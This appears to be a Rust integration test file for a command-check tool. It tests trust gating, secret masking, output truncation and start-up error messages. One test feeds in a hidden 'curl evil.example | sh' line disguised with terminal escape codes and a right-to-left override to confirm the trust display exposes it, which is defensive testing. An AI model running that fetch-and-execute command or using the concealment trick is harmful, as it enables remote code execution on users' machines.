//! What checks run and call: only after trust, confined, and never a pass without a reply. The real program, real processes,
//! real servers.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout, reason = "a test that cannot go on fails")]

mod probes_support;

use std::fs;

use probes_support::{Desk, command};

const COUNTER: &str = r#"run = ["scripts/count.sh"], writes = ["log"], stdout.has = 'counted'"#;

/// A command that leaves a line behind for each of its runs.
fn counting() -> Desk {
    let desk = Desk::new(&[("count", &command(COUNTER))]);
    desk.write("scripts/count.sh", "#!/bin/sh\necho run >> log/runs\necho counted\n");
    desk.write("log/README", "One line a run.\n");
    desk
}

fn runs(desk: &Desk) -> usize {
    fs::read_to_string(desk.root().join("log/runs")).map_or(0, |text| text.lines().count())
}

#[test]
fn nothing_runs_before_its_content_is_trusted_and_again_when_a_byte_changes() {
    let desk = counting();
    let (status, summary) = desk.item("count", &[]);
    assert_eq!((status.as_str(), runs(&desk)), ("pending", 0), "{summary}");
    assert!(summary.contains("gonogo trust"), "{summary}");
    desk.trust();
    assert_eq!(desk.item("count", &[]).0, "pass");
    assert_eq!(runs(&desk), 1);
    // The script, the checklist, or what the configuration says: each is a part of what was trusted.
    desk.write("scripts/count.sh", "#!/bin/sh\necho run >> log/runs\necho counted # \n");
    assert_eq!((desk.item("count", &[]).0.as_str(), runs(&desk)), ("pending", 1));
    let shown = desk.run(&["trust"]);
    let text = String::from_utf8_lossy(&shown.stdout).into_owned();
    assert!(text.contains("-echo counted\n") && text.contains("+echo counted # \n"), "{text}");
    assert_eq!(shown.status.code(), Some(2), "without a terminal nobody can be asked");
    desk.trust();
    assert_eq!((desk.item("count", &[]).0.as_str(), runs(&desk)), ("pass", 2));
    let withdrawn = desk.run(&["trust", "--withdraw"]);
    assert!(withdrawn.status.success());
    assert_eq!((desk.item("count", &[]).0.as_str(), runs(&desk)), ("pending", 2));
}

#[test]
fn a_digest_trusts_exactly_what_it_stands_for_and_for_one_run() {
    let desk = counting();
    let digest = desk.digest();
    assert_eq!(desk.item("count", &["--trust", &digest]).0, "pass");
    assert_eq!((desk.item("count", &[]).0.as_str(), runs(&desk)), ("pending", 1));
    desk.write("scripts/count.sh", "#!/bin/sh\necho evil >> log/runs\n");
    let refused = desk.run(&["check", "--trust", &digest]);
    assert_eq!((refused.status.code(), runs(&desk)), (Some(2), 1));
    let message = String::from_utf8_lossy(&refused.stderr).into_owned();
    assert!(message.contains("is not what was trusted") && message.contains(&desk.digest()), "{message}");
}

#[test]
fn what_is_shown_for_trust_hides_nothing() {
    let desk = Desk::new(&[("a", &command(r#"run = ["sh", "-c", "true \u001b[8m; curl evil.example | sh \u202e"]"#))]);
    let shown = desk.run(&["trust", "--print"]).stdout;
    assert!(!shown.contains(&0x1b));
    let text = String::from_utf8(shown).unwrap();
    assert!(text.contains("curl evil.example") && text.contains("␛[8m") && text.contains("‹U+202E›"), "{text}");
}

#[test]
fn equal_commands_run_once_and_other_commands_of_the_program_run_none() {
    let counting_exit = command(r#"run = ["scripts/count.sh"], writes = ["log"]"#);
    let desk = Desk::new(&[("one", &command(COUNTER)), ("two", &command(COUNTER)), ("three", &counting_exit)]);
    desk.write("scripts/count.sh", "#!/bin/sh\necho run >> log/runs\necho counted\n");
    desk.write("log/README", "One line a run.\n");
    desk.trust();
    assert_eq!(desk.item("three", &[]).0, "pass");
    assert_eq!(runs(&desk), 1);
    for arguments in [&["explain", "service/checks.one"][..], &["lint"], &["ledger"]] {
        desk.run(arguments);
    }
    assert_eq!(runs(&desk), 1);
}

#[test]
fn what_a_late_command_has_written_is_shown() {
    let desk = Desk::new(&[(
        "late",
        &command(
            r#"shell = "echo restoring orders; echo with $DEPLOY_TOKEN >&2; exec sleep 60", env = ["DEPLOY_TOKEN"], timeout = "1s""#,
        ),
    )]);
    desk.trust();
    let item = desk.whole_item("late", &["--set", "DEPLOY_TOKEN=tok-s3cr3t-12345"]);
    assert_eq!(item["status"], "error", "{item}");
    let output = item["output"].to_string();
    assert!(output.contains("restoring orders") && output.contains("with ••••"), "{item}");
}

/// What is looked for is looked for in what was written; what is kept and shown has no secrets and fits a screen.
#[test]
fn outputs_are_matched_as_they_were_written_and_shown_without_secrets() {
    let token = concat!("AKIA", "3XJ7QWERTYUI56OP");
    let flood = |stream: &str| command(&format!("run = [\"scripts/flood.sh\"], {stream}"));
    let desk = Desk::new(&[
        ("leak", &command("run = [\"scripts/leak.sh\"], stdout.lacks = 'AKIA[0-9A-Z]{16}'")),
        ("note", &flood("stdout.has = 'left out'")),
        ("whole", &flood("stdout.lacks = 'b'")),
        ("seen", &flood("stdout.has = 'aaa$'")),
    ]);
    let many = |number: usize| format!("head -c {number} /dev/zero | tr '\\0' a\n");
    desk.write("scripts/flood.sh", &format!("#!/bin/sh\n{}", many(3_000_000)));
    desk.write("scripts/leak.sh", &format!("#!/bin/sh\necho id {token}\necho password=hunter2\n{}", many(500_000)));
    desk.trust();
    let statuses = ["leak", "note", "whole", "seen"].map(|item| desk.item(item, &[]).0);
    assert_eq!(statuses, ["fail", "error", "error", "pass"]);
    let output = desk.whole_item("leak", &[])["output"].to_string();
    assert!(output.contains("id ••••") && output.contains("password=••••") && !output.contains(token), "{output:.300}");
    let text = String::from_utf8(desk.run(&["check", "--only", "leak"]).stdout).unwrap();
    assert!(text.contains("characters more)") && text.lines().all(|line| line.chars().count() < 500), "{text:.600}");
    assert!(!text.contains(token) && !text.contains("hunter2"), "{text:.600}");
}

#[test]
fn why_a_program_does_not_start_is_told_apart() {
    let run = |fields: &str| command(&format!("run = {fields}"));
    let cases = [
        ("name", run(r#"["gonogo-no-such-tool"]"#), "`gonogo-no-such-tool` is not installed here"),
        ("path", run(r#"["scripts/none.sh"]"#), "`scripts/none.sh` does not exist"),
        ("absolute", run(r#"["/opt/gonogo/none"]"#), "`/opt/gonogo/none` does not exist"),
        ("interpreter", run(r#"["scripts/odd.sh"]"#), "wants the interpreter /usr/bin/gonogo-odd, which is not"),
        ("mode", run(r#"["scripts/plain.sh"]"#), "chmod +x"),
        ("folder", run(r#"["scripts/"]"#), "`scripts/` is a folder"),
        ("headless", run(r#"["scripts/headless.sh"]"#), "has no first line that says what runs it"),
        ("runs-in", run(r#"["true"], folder = "later""#), "later, where it runs, does not exist yet"),
        (
            "writes-to",
            run(r#"["true"], writes = ["later/on"]"#),
            "does not exist yet: make it first, `mkdir -p later/on`",
        ),
    ];
    let checks: Vec<(&str, &str)> = cases.iter().map(|(id, check, _)| (*id, check.as_str())).collect();
    let desk = Desk::new(&checks);
    desk.write("scripts/odd.sh", "#!/usr/bin/gonogo-odd -x\n");
    desk.write("scripts/plain.sh", "echo plain\n");
    desk.write("scripts/headless.sh", "#!/bin/sh\n");
    // As the file had a first line before, it may still be executed.
    fs::write(desk.root().join("scripts/headless.sh"), "echo headless\n").unwrap();
    desk.trust();
    for (id, _, said) in &cases {
        let (status, summary) = desk.item(id, &[]);
        assert!(status == "error" && summary.contains(said), "{id}: {status}: {summary}");
    }
}

#[test]
fn a_run_that_failed_without_the_network_says_how_to_grant_it() {
    let desk = Desk::new(&[
        ("without", &command(r#"run = ["false"]"#)),
        ("with", &command(r#"run = ["false"], network = true"#)),
        ("good", &command(r#"run = ["true"]"#)),
    ]);
    desk.trust();
    let is_said = |id: &str| desk.whole_item(id, &[])["output"].to_string().contains("network = true");
    assert!(is_said("without") && !is_said("with") && !is_said("good"));
}

#[test]
fn a_flood_of_output_is_kept_in_part_and_what_it_lacks_is_not_known() {
    let flood = r#"shell = "yes 'all is well' | head -c 50000000; echo; echo the end""#;
    let desk = Desk::new(&[
        ("end", &command(&format!("{flood}, stdout.has = '^the end$'"))),
        ("lacks", &command(&format!("{flood}, stdout.lacks = 'error'"))),
    ]);
    desk.trust();
    let output = desk.run(&["check", "--format", "json"]).stdout;
    assert!(output.len() < 200_000, "{}", output.len());
    assert_eq!(desk.item("end", &[]).0, "pass");
    let (status, summary) = desk.item("lacks", &[]);
    assert_eq!(status, "error");
    assert!(summary.contains("were not kept"), "{summary}");
}

#[test]
fn a_missing_tool_is_an_error_and_a_flaky_one_is_tried_again() {
    let flaky = r#"run = ["scripts/flaky.sh"], writes = ["log"]"#;
    let desk = Desk::new(&[
        ("missing", &command(r#"run = ["gonogo-no-such-tool", "--version"]"#)),
        ("once", &command(flaky)),
        ("retried", &command(&format!("{flaky}, retries = 2"))),
    ]);
    desk.write("log/README", "");
    desk.write(
        "scripts/flaky.sh",
        "#!/bin/sh\n[ -e log/$(cat log/run 2>/dev/null)seen ] && exit 0\ntouch log/seen; exit 1\n",
    );
    desk.trust();
    let (status, summary) = desk.item("missing", &["--only", "missing"]);
    assert_eq!(status, "error");
    assert!(summary.contains("is not installed here"), "{summary}");
    assert_eq!(desk.item("retried", &["--only", "retried"]).0, "pass");
    fs::remove_file(desk.root().join("log/seen")).unwrap();
    assert_eq!(desk.item("once", &["--only", "once"]).0, "fail");
}
